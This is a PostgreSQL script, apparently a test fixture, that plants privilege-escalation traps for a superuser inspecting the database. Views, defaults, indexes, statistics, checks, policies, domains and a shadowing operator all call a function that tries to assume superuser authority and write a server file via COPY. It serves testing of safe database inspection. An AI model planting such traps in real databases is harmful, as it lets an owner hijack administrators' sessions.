-- What the owner of a database can plant for a superuser who looks at it. Code that runs tries to become the
-- superuser, and writes a file DIRECTORY/NAME of the server then. PREFIXbot may do everything here.
CREATE ROLE PREFIXbot LOGIN PASSWORD 'PREFIXbot';
CREATE SCHEMA app;
CREATE SCHEMA evil;
CREATE FUNCTION app.strike(what text) RETURNS integer LANGUAGE plpgsql VOLATILE
AS $$
DECLARE statement text;
BEGIN
    FOREACH statement IN ARRAY ARRAY[
        'RESET SESSION AUTHORIZATION', 'RESET ROLE', 'SET SESSION AUTHORIZATION "SUPERUSER"', 'SET ROLE "SUPERUSER"',
        'SELECT pg_catalog.set_config(''session_authorization'', ''SUPERUSER'', false)',
        'SELECT pg_catalog.set_config(''role'', ''none'', false)',
        pg_catalog.format('COPY (SELECT 1) TO %L', 'DIRECTORY/' || what)
    ] LOOP
        BEGIN EXECUTE statement; EXCEPTION WHEN OTHERS THEN NULL; END;
    END LOOP;
    RETURN 1;
END
$$;
CREATE FUNCTION app.plant(what text) RETURNS integer LANGUAGE plpgsql IMMUTABLE
AS $$ BEGIN RETURN app.strike(what); END $$;

CREATE VIEW app.shown AS SELECT app.plant('view') AS a;
CREATE TABLE app.things (a integer DEFAULT app.plant('default'), b integer);
CREATE INDEX planted_index ON app.things ((app.plant('index') + b));
CREATE STATISTICS app.planted_statistics ON (app.plant('statistics') + a), b FROM app.things;
ALTER TABLE app.things ADD CHECK (app.plant('check') > 0);
ALTER TABLE app.things ENABLE ROW LEVEL SECURITY;
CREATE POLICY planted_policy ON app.things USING (app.plant('policy') = 1);
CREATE FUNCTION app.inlined(a integer) RETURNS integer LANGUAGE sql
AS 'SELECT app.plant(''inlined'') + $1';
CREATE FUNCTION app.bare() RETURNS integer LANGUAGE sql STABLE
AS 'SELECT app.plant(''bare'')';
CREATE DOMAIN app.checked AS integer CHECK (app.plant('domain') = VALUE);
CREATE FUNCTION app.takes_domain(a app.checked) RETURNS integer LANGUAGE plpgsql AS 'BEGIN RETURN 1; END';
CREATE PROCEDURE app.act(a app.checked, b app.checked) LANGUAGE plpgsql AS 'BEGIN END';

CREATE FUNCTION evil.same(a name, b name) RETURNS boolean LANGUAGE plpgsql
AS $$ BEGIN PERFORM app.strike('operator'); RETURN pg_catalog.nameeq(a, b); END $$;
CREATE OPERATOR evil.= (FUNCTION = evil.same, LEFTARG = name, RIGHTARG = name);

GRANT USAGE ON SCHEMA app, evil TO PREFIXbot;
GRANT ALL ON ALL TABLES IN SCHEMA app TO PREFIXbot;
